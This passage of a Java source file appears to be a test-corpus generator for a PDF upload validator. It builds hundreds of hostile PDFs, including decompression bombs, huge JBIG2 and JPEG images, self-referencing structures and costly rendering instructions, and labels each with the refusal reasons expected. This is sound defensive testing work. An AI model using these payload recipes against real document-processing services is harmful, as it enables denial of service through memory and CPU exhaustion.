package cn.zhishen.document;

import cn.zhishen.pdf.UnacceptableUpload.Reason;
import java.awt.color.ColorSpace;
import java.awt.color.ICC_Profile;
import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.OutputStream;
import java.io.UncheckedIOException;
import java.math.BigInteger;
import java.nio.ByteBuffer;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.Collections;
import java.util.EnumSet;
import java.util.HexFormat;
import java.util.List;
import java.util.Random;
import java.util.Set;
import java.util.function.Consumer;
import java.util.regex.Pattern;
import java.util.stream.Collectors;
import java.util.stream.IntStream;
import java.util.zip.CRC32;
import java.util.zip.Deflater;
import java.util.zip.DeflaterOutputStream;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;
import org.apache.pdfbox.Loader;
import org.apache.pdfbox.cos.COSDictionary;
import org.apache.pdfbox.cos.COSName;
import org.apache.pdfbox.cos.COSString;
import org.apache.pdfbox.filter.FilterFactory;
import org.apache.pdfbox.pdfwriter.compress.CompressParameters;
import org.apache.pdfbox.pdmodel.PDDocument;
import org.apache.pdfbox.pdmodel.PDPage;
import org.apache.pdfbox.pdmodel.encryption.AccessPermission;
import org.apache.pdfbox.pdmodel.encryption.StandardProtectionPolicy;

/** More than two hundred files that somebody might upload to do harm. The same seed gives the same files. */
public final class HostileFiles {

    private static final int MEGABYTE = 1 << 20;
    private static final String CATALOG = "<</Type/Catalog/Pages 2 0 R>>";
    private static final String PAGES = "<</Type/Pages/Kids[3 0 R]/Count 1>>";
    private static final String TWO_PAGES = "<</Type/Pages/Kids[3 0 R 3 0 R]/Count 2>>";
    /** In the codes of JBIG2: 60,000 rows, 60,000 columns, no more letters, as it is. */
    private static final String LARGE_LETTER = hexadecimal("11111" + binary(60_000 - 76, 32) + "111110"
            + binary(60_000 - 75, 32) + "111111" + "00000" + "0".repeat(2));

    /** The head of a region in JBIG2. */
    private static final String AREA = "00000064" + "00000064" + "00000000" + "00000000" + "00";

    private static final Set<String> BY_CHANCE = Set.of("fuzzed", "truncated", "swapped", "lied");
    private static final String RGB = "/BitsPerComponent 8/ColorSpace/DeviceRGB";
    private static final String CALCULATOR = "{" + " dup sin add".repeat(40) + " dup dup}";
    private static final String PAGE =
            "<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 4 0 R/Resources 5 0 R>>";

    private final Random random;
    private final byte[] form = SampleForm.print();
    private final List<HostileFile> files = new ArrayList<>();
    private final byte[] zeros = deflated(180 * MEGABYTE);

    private HostileFiles(long seed) {
        random = new Random(seed);
    }

    /**
     * @param kind what sort of attack it is
     * @param reasons one of which must be given for the refusal; empty if the file may also be accepted as a harmless file that is no scan
     */
    public record HostileFile(String kind, String name, String fileName, byte[] content, Set<Reason> reasons) {

        @Override
        public String toString() {
            return kind + ": " + name;
        }
    }

    public static List<HostileFile> of(long seed) {
        var made = new HostileFiles(seed);
        made.fuzzed();
        made.bombs();
        made.structures();
        made.costly();
        made.heavy();
        made.encrypted();
        made.active();
        made.otherTypes();
        made.polyglots();
        made.fileNames();
        return List.copyOf(made.files);
    }

    /** All files, but only a third of those that were broken at random. Before a release really all. */
    public static List<HostileFile> sample(List<HostileFile> all) {
        boolean thorough = Boolean.getBoolean("zhishen.thorough");
        return IntStream.range(0, all.size())
                .filter(i ->
                        thorough || i % 3 == 0 || !BY_CHANCE.contains(all.get(i).kind()))
                .mapToObj(all::get)
                .toList();
    }

    private void fuzzed() {
        var compressed = saved(form, CompressParameters.DEFAULT_COMPRESSION);
        var plain = saved(form, CompressParameters.NO_COMPRESSION);
        for (int i = 0; i < 45; i++) {
            var bytes = (i % 2 == 0 ? plain : compressed).clone();
            int flips = 1 << random.nextInt(10);
            for (int flip = 0; flip < flips; flip++) {
                bytes[random.nextInt(bytes.length)] ^= (byte) (1 << random.nextInt(8));
            }
            either("fuzzed", "%d bits flipped".formatted(flips), bytes);
        }
        for (int i = 0; i < 20; i++) {
            var bytes = i % 2 == 0 ? plain : compressed;
            int kept = random.nextInt(bytes.length);
            either("truncated", "at %d of %d".formatted(kept, bytes.length), Arrays.copyOf(bytes, kept));
        }
        for (int i = 0; i < 10; i++) {
            var bytes = i % 2 == 0 ? plain : compressed;
            int kept = bytes.length / 10 + random.nextInt(bytes.length * 8 / 10);
            either(
                    "truncated",
                    "with an end at %d".formatted(kept),
                    concat(Arrays.copyOf(bytes, kept), text("\n%%EOF\n")));
        }
        for (int i = 0; i < 15; i++) {
            either("swapped", "objects, " + i, renumbered(plain));
        }
        for (int i = 0; i < 15; i++) {
            either("lied", "about lengths, " + i, withWrongLengths(i % 2 == 0 ? plain : compressed));
        }
    }

    private byte[] renumbered(byte[] pdf) {
        var all = latin(pdf);
        var heads = Pattern.compile("\\n(\\d+) 0 obj");
        var numbers = heads.matcher(all)
                .results()
                .map(found -> found.group(1))
                .collect(Collectors.toCollection(ArrayList::new));
        Collections.shuffle(numbers, random);
        var next = numbers.iterator();
        return bytes(heads.matcher(all).replaceAll(found -> "\n" + next.next() + " 0 obj"));
    }

    private byte[] withWrongLengths(byte[] pdf) {
        return bytes(
                Pattern.compile("/Length (\\d+)").matcher(latin(pdf)).replaceAll(found -> switch (random.nextInt(4)) {
                    case 0 -> "/Length " + Long.MAX_VALUE;
                    case 1 -> "/Length -1";
                    case 2 -> "/Length " + Integer.parseInt(found.group(1)) / 2;
                    default -> "/Length " + (Integer.parseInt(found.group(1)) + random.nextInt(10000));
                }));
    }

    private void bombs() {
        bomb("Flate", page("/Filter/FlateDecode", zeros));
        var headless = zeros.clone();
        headless[0] = 0;
        headless[1] = 0;
        bomb("Flate without its head", page("/Filter/FlateDecode", headless));
        bomb("Flate under an escaped name", page("/Filter/F#6cateDecode", zeros));
        bomb("Flate in Flate", page("/Filter[/FlateDecode/FlateDecode]", deflated(zeros)));
        bomb("Flate in Flate in Flate", page("/Filter[/Fl/Fl/Fl]", deflated(deflated(zeros))));
        bomb(
                "Flate named elsewhere",
                new RawPdf(CATALOG, PAGES, PAGE)
                        .stream("/Filter 6 0 R", zeros)
                                .object("<<>>")
                                .object("/FlateDecode")
                                .build());
        bomb("Flate in ASCII hexadecimal", page("/Filter[/ASCIIHexDecode/FlateDecode]", hex(zeros)));
        bomb("Flate in ASCII 85", page("/Filter[/ASCII85Decode/FlateDecode]", ascii85(zeros)));
        bomb("run lengths", page("/Filter/RunLengthDecode", runs(40 * MEGABYTE)));
        bomb("run lengths in Flate", page("/Filter[/FlateDecode/RunLengthDecode]", deflated(runs(150 * MEGABYTE))));
        bomb("LZW", page("/Filter/LZWDecode", lzw(12)));
        bomb("LZW in Flate", page("/Filter[/FlateDecode/LZWDecode]", deflated(lzw(12))));
        either("bomb", "filters without end", page("/Filter[" + "/FlateDecode".repeat(5000) + "]", zeros));
        for (var kind : List.of(
                "/Type/XObject/Subtype/Form/BBox[0 0 1 1]",
                "/Type/Metadata/Subtype/XML",
                "/Subtype/Type1C",
                "/Length1 100")) {
            bomb(
                    "Flate as " + kind,
                    new RawPdf(CATALOG, PAGES, PAGE)
                            .stream("", new byte[0]).object("<</XObject<</A 6 0 R>>>>").stream(
                                            kind + "/Filter/FlateDecode", zeros)
                                    .build());
        }
        bomb(
                "a small picture",
                image("/Width 10/Height 10/ColorSpace/DeviceRGB/BitsPerComponent 8/Filter/FlateDecode", zeros));
        bomb(
                "a huge picture",
                image(
                        "/Width 100000/Height 100000/ColorSpace/DeviceGray/BitsPerComponent 8/Filter/FlateDecode",
                        deflated(new byte[10])));
        bomb(
                "a huge mask",
                image("/Width 2147483647/Height 2147483647/ImageMask true/BitsPerComponent 1", new byte[10]));
        bomb(
                "a fax of a kilometre",
                image(
                        "/Width 10/Height 10/ColorSpace/DeviceGray/BitsPerComponent 1/Filter/CCITTFaxDecode/DecodeParms<</K -1/Columns 100000/Rows 2000000>>",
                        new byte[100]));
        bomb(
                "a JPEG larger than it says",
                image(
                        "/Width 10/Height 10/ColorSpace/DeviceRGB/BitsPerComponent 8/Filter/DCTDecode",
                        jpegHead(65000, 65000, 0xc0)));
        bomb(
                "a JPEG of a thousand passes",
                image(
                        "/Width 100/Height 100/ColorSpace/DeviceRGB/BitsPerComponent 8/Filter/DCTDecode",
                        concat(jpegHead(5000, 5000, 0xc2), passes(1000))));
        bomb(
                "a JBIG2 page",
                image(
                        "/Width 10/Height 10/ColorSpace/DeviceGray/BitsPerComponent 1/Filter/JBIG2Decode",
                        jbig2(48, 200000, 200000)));
        bomb(
                "a JBIG2 region",
                image(
                        "/Width 10/Height 10/ColorSpace/DeviceGray/BitsPerComponent 1/Filter/JBIG2Decode",
                        concat(jbig2(48, 100, 100), jbig2(38, 2000000000, 2000000000))));
        bomb(
                "JBIG2 globals",
                new RawPdf(CATALOG, PAGES, PAGE)
                        .stream("", text("/I Do")).object("<</XObject<</I 6 0 R>>>>").stream(
                                        "/Type/XObject/Subtype/Image/Width 10/Height 10/ColorSpace/DeviceGray/BitsPerComponent 1/Filter/JBIG2Decode/DecodeParms<</JBIG2Globals 7 0 R>>",
                                        jbig2(48, 10, 10))
                                .stream("/Filter/FlateDecode", zeros)
                                .build());
        bomb(
                "a row without end",
                page(
                        "/Filter/FlateDecode/DecodeParms<</Predictor 15/Columns 2000000000/Colors 4>>",
                        deflated(new byte[1000])));
        var inline = concat(text("BI /W 10 /H 10 /CS /G /BPC 8 /F /Fl ID "), zeros, text("\nEI\n"));
        bomb("a picture among the instructions", page("", inline));
        bomb("pictures among packed instructions", page("/Filter/FlateDecode", deflated(inline)));
        bomb(
                "an object stream",
                new RawPdf(CATALOG, PAGES, PAGE)
                        .stream("", new byte[0]).object("<</A 9 0 R>>").stream(
                                        "/Type/ObjStm/N 1/First 4/Filter/FlateDecode", zeros)
                                .inStream(9, 6)
                                .buildWithStream());
        bomb(
                "an object stream of arrays",
                new RawPdf(CATALOG, PAGES, PAGE)
                        .stream("", new byte[0]).object("<</A 9 0 R>>").stream(
                                        "/Type/ObjStm/N 1/First 4/Filter/FlateDecode",
                                        deflated(text("9 0 [" + "[]".repeat(3_000_000) + "]")))
                                .inStream(9, 6)
                                .buildWithStream());
        bomb(
                "a plain object stream of arrays",
                new RawPdf(CATALOG, PAGES, PAGE)
                        .stream("", new byte[0]).object("<</A 9 0 R>>").stream(
                                        "/N 1/First 4", text("9 0 [" + "[]".repeat(1_000_000) + "]"))
                                .inStream(9, 6)
                                .buildWithStream());
        bomb(
                "a cross-reference stream",
                new RawPdf(CATALOG, PAGES, PAGE)
                        .stream("", new byte[0])
                                .xref("/W[1 4 2]/Index[0 100000000]/Filter/FlateDecode", deflated(180 * MEGABYTE)));
        bomb(
                "cross-references of no bytes",
                new RawPdf(CATALOG, PAGES, PAGE)
                        .stream("", new byte[0]).xref("/W[0 0 0]/Index[0 1000000000000]", new byte[10]));
        bomb(
                "a million cross-references",
                new RawPdf(CATALOG, PAGES, PAGE)
                        .stream("", new byte[0])
                                .xref(
                                        "/W[1 1 1]/Index[0 2000000]/Filter/FlateDecode",
                                        deflated(filled(3 * 2_000_000, 1))));
        bomb(
                "an array of millions",
                new RawPdf(CATALOG, PAGES, PAGE)
                        .stream("", new byte[0])
                                .object("<</A[" + "1 ".repeat(5_000_000) + "]>>")
                                .build());
        bomb(
                "dictionaries by the million",
                new RawPdf(CATALOG, PAGES, PAGE)
                        .stream("", new byte[0])
                                .object("<</A[" + "<<>>".repeat(3_000_000) + "]>>")
                                .build());
        bomb("larger than allowed", concat(form, filled(61 * MEGABYTE, ' ')));
        hostile(
                "bomb",
                "a hundred thousand pages",
                EnumSet.of(Reason.TOO_MANY_PAGES),
                new RawPdf(CATALOG, "<</Type/Pages/Kids[" + "3 0 R ".repeat(100_000) + "]/Count 100000>>", PAGE)
                        .stream("", new byte[0]).object("<<>>").build());
        hostile("bomb", "more pages than allowed", EnumSet.of(Reason.TOO_MANY_PAGES), pagesOf(101));
        bomb("pages that multiply", multiplying());
        var levels = new RawPdf(CATALOG, PAGES, PAGE).stream("", text("/F6 Do")).object("<</XObject<</F6 6 0 R>>>>");
        for (int n = 6; n < 46; n++) {
            levels.stream(
                    "/Type/XObject/Subtype/Form/BBox[0 0 1 1]/Resources<</XObject<</F" + (n + 1) + " " + (n + 1)
                            + " 0 R>>>>",
                    text(("/F" + (n + 1) + " Do ").repeat(2)));
        }
        hostile(
                "bomb",
                "forms that multiply",
                EnumSet.allOf(Reason.class),
                levels.stream("/Type/XObject/Subtype/Form/BBox[0 0 1 1]", text("0 0 1 1 re f"))
                        .build());
    }

    /** Each level has ten of the next: ten to the ninth pages. */
    private static byte[] multiplying() {
        var pdf = new RawPdf(CATALOG, "<</Type/Pages/Count 1000000000/Kids[" + "3 0 R ".repeat(10) + "]>>");
        for (int n = 3; n < 11; n++) {
            pdf.object("<</Type/Pages/Parent 2 0 R/Count 1000000/Kids[" + ((n + 1) + " 0 R ").repeat(10) + "]>>");
        }
        return pdf.object("<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]>>").build();
    }

    private void structures() {
        functions(
                "a sampled function of a hundred trillion values",
                "/FunctionType 0/Domain[0 1 0 1 0 1 0 1 0 1]"
                        + "/Size[9999 9999 9999 9999 9999]/BitsPerSample 32/Range[0 1 0 1 0 1]",
                "x");
        functions(
                "a sampled function of a million values",
                "/FunctionType 0/Domain[0 1]/Size[1000000]/BitsPerSample 8" + "/Range[0 1 0 1 0 1]",
                "x");
        functions("a sampled function without size", "/FunctionType 0/Domain[0 1]/BitsPerSample 8/Range[0 1]", "x");
        functions(
                "a calculator nested thirty thousand deep",
                "/FunctionType 4/Domain[0 1]/Range[0 1 0 1 0 1]",
                "{".repeat(30_000) + "}".repeat(30_000));
        functions(
                "a calculator of a hundred thousand steps",
                "/FunctionType 4/Domain[0 1]/Range[0 1 0 1 0 1]",
                "{" + " dup mul".repeat(100_000) + "}");
        damaged(
                "a page tree that is its own child",
                new RawPdf(CATALOG, "<</Type/Pages/Kids[2 0 R]/Count 1>>").build());
        damaged(
                "a page tree in a circle",
                new RawPdf(CATALOG, "<</Type/Pages/Kids[3 0 R]/Count 1>>", "<</Type/Pages/Kids[2 0 R]/Count 1>>")
                        .build());
        var deep = new RawPdf(CATALOG, "<</Type/Pages/Kids[3 0 R]/Count 1>>");
        for (int n = 3; n < 20_000; n++) {
            deep.object("<</Type/Pages/Parent " + (n - 1) + " 0 R/Count 1/Kids[" + (n + 1) + " 0 R]>>");
        }
        damaged(
                "a page tree of twenty thousand levels",
                deep.object("<</Type/Page/Parent 2 0 R>>").build());
        for (var count : List.of("-1", "0", "2", "2147483647", "99999999999", "(1)")) {
            refused(
                    "structure",
                    "a stated number of pages of " + count,
                    new RawPdf(CATALOG, "<</Type/Pages/Kids[3 0 R]/Count " + count + ">>", PAGE)
                            .stream("", new byte[0]).object("<<>>").build());
        }
        either(
                "structure",
                "arrays in arrays",
                new RawPdf(CATALOG, PAGES, PAGE)
                        .stream("", new byte[0])
                                .object("<</A " + "[".repeat(200_000) + "]".repeat(200_000) + ">>")
                                .build());
        either(
                "structure",
                "dictionaries in dictionaries",
                new RawPdf(CATALOG, PAGES, PAGE)
                        .stream("", new byte[0])
                                .object("<</A".repeat(200_000) + " 1" + ">>".repeat(200_000))
                                .build());
        either(
                "structure",
                "arrays that are not closed",
                new RawPdf(CATALOG, PAGES, PAGE)
                        .stream("", new byte[0]).object("[".repeat(1_000_000)).build());
        damaged("colours of colours without end", colours("[/Indexed 6 0 R 1 <000000FFFFFF>]"));
        damaged(
                "a profile that replaces itself",
                new RawPdf(CATALOG, PAGES, PAGE)
                        .stream("", text("/C cs 0 0 1 1 re f")).object("<</ColorSpace<</C[/ICCBased 6 0 R]>>>>").stream(
                                        "/N 3/Alternate[/ICCBased 6 0 R]", new byte[10])
                                .build());
        var chain = new RawPdf(CATALOG, PAGES, PAGE)
                .stream("", text("/C cs 0 0 1 1 re f")).object("<</ColorSpace<</C 6 0 R>>>>");
        for (int n = 6; n < 5000; n++) {
            chain.object("[/Indexed " + (n + 1) + " 0 R 1 <000000FFFFFF>]");
        }
        damaged("colours of colours, five thousand", chain.object("/DeviceRGB").build());
        damaged(
                "a mask of itself",
                new RawPdf(CATALOG, PAGES, PAGE)
                        .stream("", text("/I Do")).object("<</XObject<</I 6 0 R>>>>").stream(
                                        "/Type/XObject/Subtype/Image/Width 1/Height 1/ColorSpace/DeviceGray/BitsPerComponent 8/SMask 6 0 R",
                                        new byte[1])
                                .build());
        damaged(
                "functions of themselves",
                new RawPdf(CATALOG, PAGES, PAGE)
                        .stream("", text("/S sh"))
                                .object(
                                        "<</Shading<</S<</ShadingType 2/ColorSpace/DeviceRGB/Coords[0 0 1 1]/Function 6 0 R>>>>>>")
                                .object(
                                        "<</FunctionType 3/Domain[0 1]/Functions[6 0 R 6 0 R]/Bounds[0.5]/Encode[0 1 0 1]>>")
                                .build());
        damaged(
                "a font of itself",
                new RawPdf(CATALOG, PAGES, PAGE)
                        .stream("", text("BT /F 1 Tf (a) Tj ET"))
                                .object("<</Font<</F 6 0 R>>>>")
                                .object(
                                        "<</Type/Font/Subtype/Type0/BaseFont/A/Encoding/Identity-H/DescendantFonts[6 0 R]>>")
                                .build());
        either(
                "structure",
                "a form that draws itself",
                new RawPdf(CATALOG, PAGES, PAGE)
                        .stream("", text("/A Do")).object("<</XObject<</A 6 0 R>>>>").stream(
                                        "/Type/XObject/Subtype/Form/BBox[0 0 1 1]/Resources 5 0 R", text("/A Do"))
                                .build());
        either(
                "structure",
                "a letter that writes itself",
                new RawPdf(CATALOG, PAGES, PAGE)
                        .stream("", text("BT /F 12 Tf (a) Tj ET"))
                                .object("<</Font<</F 6 0 R>>>>")
                                .object(
                                        "<</Type/Font/Subtype/Type3/FontBBox[0 0 9 9]/FontMatrix[1 0 0 1 0 0]/CharProcs<</a 7 0 R>>/Encoding<</Differences[97/a]>>/FirstChar 97/LastChar 97/Widths[9]/Resources 5 0 R>>")
                                .stream("", text("9 0 d0 BT /F 12 Tf (a) Tj ET"))
                                .build());
        either(
                "structure",
                "a pattern painted with itself",
                new RawPdf(CATALOG, PAGES, PAGE)
                        .stream("", text("/Pattern cs /P scn 0 0 500 500 re f"))
                                .object("<</Pattern<</P 6 0 R>>>>")
                                .stream(
                                        "/PatternType 1/PaintType 1/TilingType 1/BBox[0 0 9 9]/XStep 9/YStep 9/Resources 5 0 R",
                                        text("/Pattern cs /P scn 0 0 9 9 re f"))
                                .build());
        either(
                "structure",
                "a length that is its own stream",
                new RawPdf(CATALOG, PAGES, PAGE)
                        .raw("<</Length 4 0 R>>\nstream\nabc\nendstream")
                        .object("<<>>")
                        .build());
        var lengths = new RawPdf(CATALOG, PAGES, PAGE);
        for (int n = 4; n < 10_000; n++) {
            lengths.raw("<</Length " + (n + 1) + " 0 R>>\nstream\na\nendstream");
        }
        damaged("lengths of lengths", lengths.object("1").build());
        var headless = new RawPdf(CATALOG, PAGES, PAGE);
        for (int n = 4; n < 5000; n++) {
            headless.raw("<<>>\nstream\n");
        }
        either("structure", "streams that do not end", headless.build());
        either(
                "structure",
                "cross-references in a circle",
                new RawPdf(CATALOG, PAGES, PAGE)
                        .stream("", new byte[0])
                                .object("<<>>")
                                .trailer("/Prev 9")
                                .build());
        either(
                "structure",
                "a cross-reference to nowhere",
                bytes(latin(form).replaceAll("startxref\\s+\\d+", "startxref\n999999999")));
        refused(
                "structure",
                "no catalog",
                new RawPdf("<<>>", PAGES, PAGE)
                        .stream("", new byte[0]).trailer("/Root 9 0 R").build());
        refused("structure", "a catalog that is an array", new RawPdf("[1 2 3]", PAGES, PAGE).build());
        refused("structure", "no pages", new RawPdf(CATALOG, "<</Type/Pages/Kids[]/Count 0>>").build());
        either(
                "structure",
                "an object stream that holds itself",
                new RawPdf(CATALOG, PAGES, PAGE)
                        .stream("", new byte[0])
                                .object("<</A 6 0 R>>")
                                .inStream(6, 6)
                                .buildWithStream());
        for (var box : List.of(
                "[0 0 0 0]", "[0 0 1e30 1e30]", "[0 0 -1 -1]", "[NaN 0 1 1]", "(a)", "[0 0 14400000 14400000]")) {
            either(
                    "structure",
                    "a sheet of " + box,
                    new RawPdf(CATALOG, PAGES, "<</Type/Page/Parent 2 0 R/MediaBox" + box + "/Contents 4 0 R>>")
                            .stream("", text("0 0 9 9 re f")).build());
        }
        for (var unit : List.of("1e30", "-1", "0")) {
            either(
                    "structure",
                    "a unit of " + unit,
                    new RawPdf(
                                    CATALOG,
                                    PAGES,
                                    "<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]/UserUnit " + unit
                                            + "/Contents 4 0 R>>")
                            .stream("", text("0 0 9 9 re f")).build());
        }
        bomb(
                "instructions in a thousand pieces",
                new RawPdf(CATALOG, PAGES, PAGE.replace("4 0 R", "[" + "4 0 R ".repeat(1000) + "]"))
                        .stream("/Filter/FlateDecode", deflated(12 * MEGABYTE))
                                .object("<<>>")
                                .build());
        bomb("instructions as long as may be uploaded", page("", filled(50 * MEGABYTE, ' ')));
        either("structure", "brackets without end among the instructions", page("", text("q ".repeat(500_000))));
        either("structure", "numbers without end among the instructions", page("", text("1 ".repeat(2_000_000))));
        either("structure", "arrays in arrays among the instructions", page("", text("[".repeat(300_000))));
    }

    /** Files that are short and take much work to draw. The program does not draw what is no picture, so such a file is no scan. */
    private void costly() {
        costly(
                "a pattern whose tiles are larger than a house",
                drawn("/Pattern cs /P scn 0 0 595 842 re f", "/Pattern<</P 6 0 R>>").stream(
                        "/PatternType 1/PaintType 1/TilingType 1/BBox[0 0 10 10]/XStep 3000/YStep 3000/Resources<<>>",
                        text("0 0 5 5 re f")));
        costly(
                "a mesh over the page",
                drawn("/S sh", "/Shading<</S 6 0 R>>").stream(
                        "/ShadingType 4/ColorSpace/DeviceRGB/BitsPerCoordinate 8/BitsPerComponent 8/BitsPerFlag 8"
                                + "/Decode[0 595 0 842 0 1 0 1 0 1]",
                        new byte[] {0, 0, 0, 1, 1, 1, 0, -1, 0, 1, 1, 1, 0, 0, -1, 1, 1, 1}));
        costly(
                "a colour calculated for each pixel",
                drawn(
                        "/S sh",
                        "/Shading<</S<</ShadingType 1/ColorSpace/DeviceRGB/Matrix[595 0 0 842 0 0]/Function 6 0 R>>>>")
                        .stream(
                                "/FunctionType 4/Domain[0 1 0 1]/Range[0 1 0 1 0 1]",
                                text("{" + " dup sin add".repeat(40) + " dup}")));
        var groups = drawn("/G6 Do", "/XObject<</G6 6 0 R>>");
        for (int n = 6; n < 46; n++) {
            groups.stream(
                    "/Type/XObject/Subtype/Form/BBox[0 0 595 842]/Group<</S/Transparency>>/Resources<</XObject<</G"
                            + (n + 1) + " " + (n + 1) + " 0 R>>>>",
                    text("/G" + (n + 1) + " Do"));
        }
        costly(
                "sheets of glass over each other, forty deep",
                groups.stream("/Type/XObject/Subtype/Form/BBox[0 0 595 842]", text("0 0 595 842 re f")));
        costly(
                "masks that are drawn",
                drawn("/E gs 0 0 595 842 re f ".repeat(5_000), "/ExtGState<</E<</SMask<</S/Luminosity/G 6 0 R>>>>>>")
                        .stream(
                                "/Type/XObject/Subtype/Form/BBox[0 0 595 842]/Group<</S/Transparency/CS/DeviceGray>>",
                                text("0 0 595 842 re f")));
        costly(
                "letters that paint the page a thousand times",
                drawn("BT /F 12 Tf " + "(aaaaaaaaaaaaaaaa) Tj ".repeat(10) + "ET", "/Font<</F 6 0 R>>")
                        .object(
                                "<</Type/Font/Subtype/Type3/FontBBox[0 0 9 9]/FontMatrix[1 0 0 1 0 0]/CharProcs<</a 7 0 R>>/Encoding<</Differences[97/a]>>/FirstChar 97/LastChar 97/Widths[9]/Resources<<>>>>")
                        .stream("", text("9 0 d0 " + "0 0 595 842 re f ".repeat(1_000))));
        costly("dashes too short to be seen", drawn("[0.00001] 0 d 0 0 m 595 842 l S ".repeat(1_000), ""));
        costly("a line that crosses itself without end", drawn("0 0 m " + crossing(150_000) + "f", ""));
        costly(
                "a frame made up for each of a thousand remarks",
                new RawPdf(
                                CATALOG,
                                PAGES,
                                PAGE.replace("/Contents", "/Annots[" + "6 0 R ".repeat(1_000) + "]/Contents"))
                        .stream("", new byte[0])
                                .object("<<>>")
                                .object(
                                        "<</Type/Annot/Subtype/Square/Rect[0 0 595 842]/C[1 0 0]/BE<</S/C/I 0.001>>>>"));
        costly(
                "remarks without end",
                new RawPdf(
                                CATALOG,
                                PAGES,
                                PAGE.replace("/Contents", "/Annots[" + "6 0 R ".repeat(50_000) + "]/Contents"))
                        .stream("", new byte[0])
                                .object("<<>>")
                                .object("<</Type/Annot/Subtype/Stamp/Rect[0 0 595 842]/AP<</N 7 0 R>>>>")
                                .stream("/Type/XObject/Subtype/Form/BBox[0 0 595 842]", text("q Q")));
        costly(
                "a clip that crosses itself",
                picture("q " + crossing(5_000) + "W n 595 0 0 842 0 0 cm /I Do Q", 1, 1, ""));
        costly(
                "clips that cross each other",
                picture("q " + (crossing(20) + "W n ").repeat(1_000) + "595 0 0 842 0 0 cm /I Do Q", 1, 1, ""));
        costly(
                "a clip that goes on behind its end",
                picture("q 0 0 1 1 re W " + crossing(5_000) + "n 595 0 0 842 0 0 cm /I Do Q", 1, 1, ""));
        tooMuch(
                "a dot drawn over the page without end",
                picture("595 0 0 842 0 0 cm " + "/I Do ".repeat(50_000), 1, 1, ""));
        tooMuch("a dot drawn as a dot without end", picture("/I Do ".repeat(50_000), 1, 1, ""));
        tooMuch(
                "a large picture again and again",
                picture("595 0 0 842 0 0 cm " + "/I Do ".repeat(20), 5000, 7000, ""));
        tooMuch(
                "large pictures of a colour that is slow to convert",
                picture(
                        "595 0 0 842 0 0 cm " + "/I Do ".repeat(4),
                        5000,
                        7000,
                        "/ColorSpace[/Lab<</WhitePoint[1 1 1]>>]"));
        tooMuch(
                "many inks, mixed for each pixel",
                drawn("595 0 0 842 0 0 cm /I Do", "/XObject<</I 6 0 R>>").stream(
                        "/Type/XObject/Subtype/Image/Width 5000/Height 7000/BitsPerComponent 8/ColorSpace[/DeviceN[/A]/DeviceRGB 7 0 R]/Filter/FlateDecode",
                        deflated(new byte[35_000_000]))
                        .stream("/FunctionType 4/Domain[0 1]/Range[0 1 0 1 0 1]", text(CALCULATOR)));
        tooMuch(
                "a dot with a mask as large as a wall",
                drawn("595 0 0 842 0 0 cm /I Do", "/XObject<</I 6 0 R>>").stream(
                        "/Type/XObject/Subtype/Image/Width 1/Height 1/BitsPerComponent 8/ColorSpace/DeviceRGB/SMask 7 0 R",
                        new byte[3])
                        .stream(
                                "/Type/XObject/Subtype/Image/Width 5000/Height 7000/BitsPerComponent 8/ColorSpace/DeviceGray/Filter/FlateDecode",
                                deflated(new byte[35_000_000])));
        tooMuch(
                "JBIG2 regions over each other",
                jbig2(concat(IntStream.range(0, 200)
                        .mapToObj(n -> jbig2(38, 5000, 7000))
                        .toArray(byte[][]::new))));
        tooMuch(
                "a JBIG2 letter as large as a house",
                jbig2(concat(
                        jbig2(48, 100, 100),
                        segment(1, 0, "", "0001" + "00000001" + "00000001" + LARGE_LETTER),
                        segment(2, 6, "01", AREA + "0001" + "0000" + "00000001" + "00".repeat(20)))));
        tooMuch(
                "JBIG2 points by the million",
                jbig2(concat(jbig2(48, 100, 100), segment(1, 20, "", AREA + "00" + "0000ffff" + "0000ffff"))));
        tooMuch(
                "JBIG2 patterns by the million",
                jbig2(concat(jbig2(48, 100, 100), segment(1, 16, "", "00ffff0000ffff"))));
        tooMuch("a JBIG2 region of unknown length", jbig2(unknownLength(jbig2(38, 100, 100))));
        tooMuch(
                "JBIG2 stripes of a page without end",
                jbig2(concat(jbig2(48, 6_000, -1), segment(1, 50, "", "00ffffff"), segment(2, 49, "", ""))));
        tooMuch("brackets by the million among the instructions", drawn("[]".repeat(2_000_000), ""));
        tooMuch(
                "brackets by the million in a form",
                drawn("/A Do", "/XObject<</A 6 0 R>>").stream(
                        "/Type/XObject/Subtype/Form/BBox[0 0 1 1]/Filter/FlateDecode",
                        deflated(text("<<>>".repeat(2_000_000)))));
    }

    /** Pictures of the largest accepted size, two pages side by side. */
    private void heavy() {
        heavy("sixteen bits of three colours", 2400, 2480, "/BitsPerComponent 16/ColorSpace/DeviceRGB", 6);
        heavy("sixteen bits of grey", 3600, 3700, "/BitsPerComponent 16/ColorSpace/DeviceGray", 2);
        heavy(
                "sixteen bits of grey, every second pixel drawn",
                4500,
                4580,
                "/BitsPerComponent 16/ColorSpace/DeviceGray",
                2);
        for (int[] size : new int[][] {{4000, 4000}, {5000, 7000}}) {
            tooMuch(
                    "sixteen bits of grey, %d times %d pixels".formatted(size[0], size[1]),
                    large(TWO_PAGES, size[0], size[1], "/BitsPerComponent 16/ColorSpace/DeviceGray", 2));
        }
        tooMuch(
                "sixteen bits of three colours, 4200 times 4200 pixels",
                large(TWO_PAGES, 4200, 4200, "/BitsPerComponent 16/ColorSpace/DeviceRGB", 6));
        heavy("four inks", 5100, 5200, "/BitsPerComponent 8/ColorSpace/DeviceCMYK", 4);
        heavy("colours upside down", 5000, 7000, "/BitsPerComponent 8/ColorSpace/DeviceRGB/Decode[1 0 1 0 1 0]", 3);
        heavy(
                "colours of a palette",
                5000,
                7000,
                "/BitsPerComponent 8/ColorSpace[/Indexed/DeviceRGB 1<000000ffffff>]",
                1);
        heavy("a large picture with a transparent colour", 3100, 3200, RGB + "/Mask[0 0 0 0 0 0]", 3);
        heavy(
                "a large picture of a slow colour",
                3100,
                3200,
                "/BitsPerComponent 8/ColorSpace[/Lab<</WhitePoint[1 1 1]>>]",
                3);
        tooMuch("a larger picture with a transparent colour", large(PAGES, 5000, 7000, RGB + "/Mask[0 0 0 0 0 0]", 3));
        tooMuch(
                "sixteen bits of far too many",
